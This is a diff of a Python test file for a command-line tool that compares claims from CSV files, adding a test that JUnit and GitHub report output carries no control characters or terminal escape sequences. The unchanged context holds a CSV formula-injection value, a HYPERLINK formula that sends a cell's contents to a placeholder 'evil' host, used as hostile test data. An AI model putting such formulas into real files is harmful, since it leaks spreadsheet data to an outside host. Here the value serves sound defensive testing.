@@ -128,3 +128,15 @@ def test_json_keeps_user_text_exactly(here, cli, write):
     doc = json.loads(cli("compare", "h.csv", "--format", "json").stdout)
     sources = {c["source"] for g in doc["groups"] for c in g["claims"]}
     assert '=HYPERLINK("http://evil/?"&A1)' in sources
+
+
+@pytest.mark.parametrize("fmt", ["junit", "github"])
+def test_ci_reports_carry_no_control_characters(here, cli, write, fmt):
+    write("h.csv", HOSTILE.replace("[/],", "\x01\x1b[31m,"))
+    result = cli("compare", "h.csv", "--format", fmt, "--fail-on", "single-source")
+    assert result.exit_code == 1, result.stderr
+    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", result.stdout)
+    if fmt == "junit":
+        import xml.etree.ElementTree as ET
+
+        ET.fromstring(result.stdout.split("\n", 1)[1])
